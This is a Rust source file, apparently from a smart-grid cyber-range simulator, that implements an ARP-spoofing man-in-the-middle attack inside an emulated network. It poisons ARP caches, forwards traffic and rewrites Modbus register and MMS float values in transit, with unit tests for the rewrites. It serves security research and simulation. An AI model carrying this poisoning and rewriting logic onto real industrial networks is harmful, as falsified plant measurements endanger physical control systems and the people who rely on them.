//! ARP-spoofing man-in-the-middle: the paper's second case study and
//! Figure 6.
//!
//! *"Typically man-in-the-middle (MITM) attack is mounted by using a
//! strategy called ARP spoofing. This confuses the mapping between a
//! device's logical (IP) address and physical address … the attacker could
//! possibly mislead the SCADA HMI or the PLC to confuse the plant control."*
//!
//! [`MitmApp`] resolves the two victims' real MAC addresses, poisons both
//! caches with unsolicited ARP replies, transparently forwards the
//! redirected traffic, and applies a length-preserving payload transform
//! (e.g. scaling measurement registers) while the attack window is open: a
//! rewritten packet is one copy of the received bytes, changed in place,
//! which keeps its headers valid (the emulated TCP checksum is zero). On
//! stop it repairs the caches (re-ARP) and goes quiet.

use bytes::Bytes;
use parking_lot::Mutex;
use sgcr_net::{
    ethertype, ipproto, ArpPacket, EthernetFrame, HostCtx, Ipv4Addr, Ipv4Packet, MacAddr,
    SimDuration, SocketApp, TcpSegment,
};
use std::sync::Arc;

/// The payload rewrite applied to intercepted traffic.
#[derive(Debug, Clone)]
pub enum Transform {
    /// Forward unmodified (pure interception / eavesdropping).
    PassThrough,
    /// Scale every register in Modbus *read input/holding register*
    /// responses by this factor (length-preserving).
    ScaleModbusRegisters(f64),
    /// Overwrite every register in Modbus read responses with a constant.
    SetModbusRegisters(u16),
    /// Scale every `Float` in MMS read responses by this factor
    /// (length-preserving: MMS floats are fixed 5-byte encodings).
    ScaleMmsFloats(f32),
    /// Drop matching traffic entirely (denial of visibility).
    Drop,
}

/// Statistics observable by the experiment harness.
#[derive(Debug, Clone, Default)]
pub struct MitmReport {
    /// Frames forwarded unmodified.
    pub forwarded: u64,
    /// Frames whose payload was rewritten.
    pub modified: u64,
    /// Frames dropped.
    pub dropped: u64,
    /// Whether both victims' MACs were resolved.
    pub position_established: bool,
}

/// Shared handle to the attack's statistics.
pub type MitmHandle = Arc<Mutex<MitmReport>>;

/// Attack plan for one MITM position.
#[derive(Debug, Clone)]
pub struct MitmPlan {
    /// First victim (e.g. the SCADA HMI).
    pub victim_a: Ipv4Addr,
    /// Second victim (e.g. the PLC or an IED).
    pub victim_b: Ipv4Addr,
    /// When to begin poisoning (sim ms).
    pub start_ms: u64,
    /// When to stop and repair (sim ms); `u64::MAX` = never.
    pub stop_ms: u64,
    /// The rewrite applied while active.
    pub transform: Transform,
}

const TOKEN_START: u64 = 1;
const TOKEN_POISON: u64 = 2;
const TOKEN_STOP: u64 = 3;
const POISON_PERIOD_MS: u64 = 500;

/// The MITM attacker application.
pub struct MitmApp {
    plan: MitmPlan,
    mac_a: Option<MacAddr>,
    mac_b: Option<MacAddr>,
    active: bool,
    report: MitmHandle,
}

impl MitmApp {
    /// Creates the attacker app and its statistics handle.
    pub fn new(plan: MitmPlan) -> (MitmApp, MitmHandle) {
        let report: MitmHandle = Arc::default();
        (
            MitmApp {
                plan,
                mac_a: None,
                mac_b: None,
                active: false,
                report: report.clone(),
            },
            report,
        )
    }

    fn poison(&self, ctx: &mut HostCtx<'_>) {
        let (Some(mac_a), Some(mac_b)) = (self.mac_a, self.mac_b) else {
            return;
        };
        let my_mac = ctx.mac();
        // Tell A that B's IP is at our MAC…
        let to_a = ArpPacket::reply(my_mac, self.plan.victim_b, mac_a, self.plan.victim_a);
        ctx.send_frame(to_a.into_frame(mac_a));
        // …and tell B that A's IP is at our MAC.
        let to_b = ArpPacket::reply(my_mac, self.plan.victim_a, mac_b, self.plan.victim_b);
        ctx.send_frame(to_b.into_frame(mac_b));
    }

    fn repair(&self, ctx: &mut HostCtx<'_>) {
        let (Some(mac_a), Some(mac_b)) = (self.mac_a, self.mac_b) else {
            return;
        };
        let my_mac = ctx.mac();
        // Restore the genuine mappings. The ARP payload claims the real
        // owners, but the *frame* source stays our MAC — otherwise the
        // switch would learn the victims' MACs on our port and blackhole
        // their traffic (exactly how real arpspoof performs its re-ARP).
        let to_a = ArpPacket::reply(mac_b, self.plan.victim_b, mac_a, self.plan.victim_a);
        ctx.send_frame(EthernetFrame::new(
            mac_a,
            my_mac,
            ethertype::ARP,
            to_a.encode(),
        ));
        let to_b = ArpPacket::reply(mac_a, self.plan.victim_a, mac_b, self.plan.victim_b);
        ctx.send_frame(EthernetFrame::new(
            mac_b,
            my_mac,
            ethertype::ARP,
            to_b.encode(),
        ));
    }

    /// A copy of `bytes`, the IPv4 `packet`, with its TCP payload rewritten
    /// in place by the transform, or `None` when it rewrites nothing.
    fn transform_payload(&self, bytes: &[u8], packet: &Ipv4Packet<'_>) -> Option<Vec<u8>> {
        // Only TCP payloads are rewritten; everything else passes through.
        if packet.protocol != ipproto::TCP {
            return None;
        }
        let segment = TcpSegment::decode(packet.payload)?;
        if segment.payload.is_empty() {
            return None;
        }
        // The payload runs to the segment's end, somewhere inside `bytes`.
        let start = segment.payload.as_ptr() as usize - bytes.as_ptr() as usize;
        let mut out = bytes.to_vec();
        let stream = &mut out[start..start + segment.payload.len()];
        let touched = match &self.plan.transform {
            Transform::PassThrough | Transform::Drop => false,
            Transform::ScaleModbusRegisters(factor) => rewrite_modbus_registers(stream, |reg| {
                ((f64::from(reg) * factor).clamp(0.0, 65535.0)) as u16
            }),
            Transform::SetModbusRegisters(value) => rewrite_modbus_registers(stream, |_| *value),
            Transform::ScaleMmsFloats(factor) => rewrite_mms_floats(stream, *factor),
        };
        touched.then_some(out)
    }
}

/// Rewrites register words in Modbus read-response ADUs within a TCP stream
/// chunk, in place. Returns whether the chunk held a rewritable response.
fn rewrite_modbus_registers(out: &mut [u8], f: impl Fn(u16) -> u16) -> bool {
    // A chunk may contain several ADUs back to back.
    let mut offset = 0usize;
    let mut touched = false;
    while offset + 9 <= out.len() {
        let length = u16::from_be_bytes([out[offset + 4], out[offset + 5]]) as usize;
        if length < 2 || offset + 6 + length > out.len() {
            break;
        }
        let fc = out[offset + 7];
        // Read holding (3) / input (4) register responses: fc, byte count,
        // then register words.
        if (fc == 3 || fc == 4) && length >= 3 {
            let byte_count = out[offset + 8] as usize;
            let data_start = offset + 9;
            if data_start + byte_count <= out.len() {
                for chunk_start in (data_start..data_start + byte_count).step_by(2) {
                    if chunk_start + 1 < out.len() {
                        let register = u16::from_be_bytes([out[chunk_start], out[chunk_start + 1]]);
                        let rewritten = f(register);
                        out[chunk_start..chunk_start + 2].copy_from_slice(&rewritten.to_be_bytes());
                        touched = true;
                    }
                }
            }
        }
        offset += 6 + length;
    }
    touched
}

/// Rewrites MMS `Float` TLVs (tag 0x87, length 5, exponent byte 8) inside a
/// TPKT/MMS stream chunk in place — length-preserving. Returns whether it
/// found one.
fn rewrite_mms_floats(out: &mut [u8], factor: f32) -> bool {
    let mut touched = false;
    let mut i = 0usize;
    while i + 7 <= out.len() {
        if out[i] == 0x87 && out[i + 1] == 0x05 && out[i + 2] == 0x08 {
            let value = f32::from_be_bytes([out[i + 3], out[i + 4], out[i + 5], out[i + 6]]);
            let rewritten = value * factor;
            out[i + 3..i + 7].copy_from_slice(&rewritten.to_be_bytes());
            touched = true;
            i += 7;
        } else {
            i += 1;
        }
    }
    touched
}

impl SocketApp for MitmApp {
    fn on_start(&mut self, ctx: &mut HostCtx<'_>) {
        ctx.set_deliver_transit(true);
        // Resolve the victims' true MACs before poisoning.
        let my_mac = ctx.mac();
        let my_ip = ctx.ip();
        for victim in [self.plan.victim_a, self.plan.victim_b] {
            let request = ArpPacket::request(my_mac, my_ip, victim);
            ctx.send_frame(request.into_frame(MacAddr::BROADCAST));
        }
        let now_ms = ctx.now().as_millis();
        ctx.set_timer(
            SimDuration::from_millis(self.plan.start_ms.saturating_sub(now_ms).max(10)),
            TOKEN_START,
        );
        if self.plan.stop_ms != u64::MAX {
            ctx.set_timer(
                SimDuration::from_millis(self.plan.stop_ms.saturating_sub(now_ms)),
                TOKEN_STOP,
            );
        }
    }

    fn on_timer(&mut self, ctx: &mut HostCtx<'_>, token: u64) {
        match token {
            TOKEN_START => {
                self.active = true;
                self.report.lock().position_established =
                    self.mac_a.is_some() && self.mac_b.is_some();
                self.poison(ctx);
                ctx.set_timer(SimDuration::from_millis(POISON_PERIOD_MS), TOKEN_POISON);
            }
            TOKEN_POISON if self.active => {
                self.poison(ctx);
                ctx.set_timer(SimDuration::from_millis(POISON_PERIOD_MS), TOKEN_POISON);
            }
            TOKEN_STOP => {
                self.active = false;
                self.repair(ctx);
            }
            _ => {}
        }
    }

    fn on_raw_frame(&mut self, _ctx: &mut HostCtx<'_>, frame: &EthernetFrame) {
        // Learn victim MACs from their ARP replies to our resolution.
        if frame.ethertype == ethertype::ARP {
            if let Some(arp) = ArpPacket::decode(&frame.payload) {
                if arp.sender_ip == self.plan.victim_a {
                    self.mac_a = Some(arp.sender_mac);
                }
                if arp.sender_ip == self.plan.victim_b {
                    self.mac_b = Some(arp.sender_mac);
                }
            }
        }
    }

    fn on_transit_ip(&mut self, ctx: &mut HostCtx<'_>, frame: &EthernetFrame) {
        let Some(packet) = Ipv4Packet::decode(&frame.payload) else {
            return;
        };
        // Only the victims' conversation is interesting.
        let pair = (packet.src, packet.dst);
        let ours = pair == (self.plan.victim_a, self.plan.victim_b)
            || pair == (self.plan.victim_b, self.plan.victim_a);
        if !ours {
            return;
        }
        let dst_mac = if packet.dst == self.plan.victim_a {
            self.mac_a
        } else {
            self.mac_b
        };
        let Some(dst_mac) = dst_mac else {
            return;
        };
        if self.active && matches!(self.plan.transform, Transform::Drop) {
            self.report.lock().dropped += 1;
            return;
        }
        let rewritten = if self.active {
            self.transform_payload(&frame.payload, &packet)
        } else {
            None
        };
        let modified = rewritten.is_some();
        let bytes = rewritten.map_or_else(|| frame.payload.clone(), Bytes::from);
        let out = EthernetFrame::new(dst_mac, ctx.mac(), ethertype::IPV4, bytes);
        ctx.send_frame(out);
        let mut report = self.report.lock();
        if modified {
            report.modified += 1;
        } else {
            report.forwarded += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn modbus_rewrite_scales_registers() {
        // Build a fc=4 response ADU: tid=1, unit=1, [4, 4, regs 100, 200].
        let mut adu = Vec::new();
        adu.extend_from_slice(&1u16.to_be_bytes());
        adu.extend_from_slice(&[0, 0]);
        adu.extend_from_slice(&7u16.to_be_bytes()); // unit + fc + count + 4 bytes
        adu.push(1);
        adu.push(4);
        adu.push(4);
        adu.extend_from_slice(&100u16.to_be_bytes());
        adu.extend_from_slice(&200u16.to_be_bytes());
        let mut write_adu = adu.clone();
        assert!(rewrite_modbus_registers(&mut adu, |r| r * 3));
        assert_eq!(u16::from_be_bytes([adu[9], adu[10]]), 300);
        assert_eq!(u16::from_be_bytes([adu[11], adu[12]]), 600);
        // A write response (fc=6) is left alone.
        write_adu[7] = 6;
        let original = write_adu.clone();
        assert!(!rewrite_modbus_registers(&mut write_adu, |r| r * 3));
        assert_eq!(write_adu, original);
    }

    #[test]
    fn mms_float_rewrite_is_length_preserving() {
        let mut stream = vec![0x03, 0x00, 0x00, 0x0c]; // TPKT-ish prefix
        stream.push(0x87);
        stream.push(0x05);
        stream.push(0x08);
        stream.extend_from_slice(&2.5f32.to_be_bytes());
        assert!(rewrite_mms_floats(&mut stream, 2.0));
        let value = f32::from_be_bytes([stream[7], stream[8], stream[9], stream[10]]);
        assert_eq!(value, 5.0);
    }

    #[test]
    fn no_floats_no_rewrite() {
        assert!(!rewrite_mms_floats(
            &mut [0xa1, 0x03, 0x02, 0x01, 0x05],
            2.0
        ));
        assert!(!rewrite_modbus_registers(&mut [1, 2, 3], |r| r));
    }
}
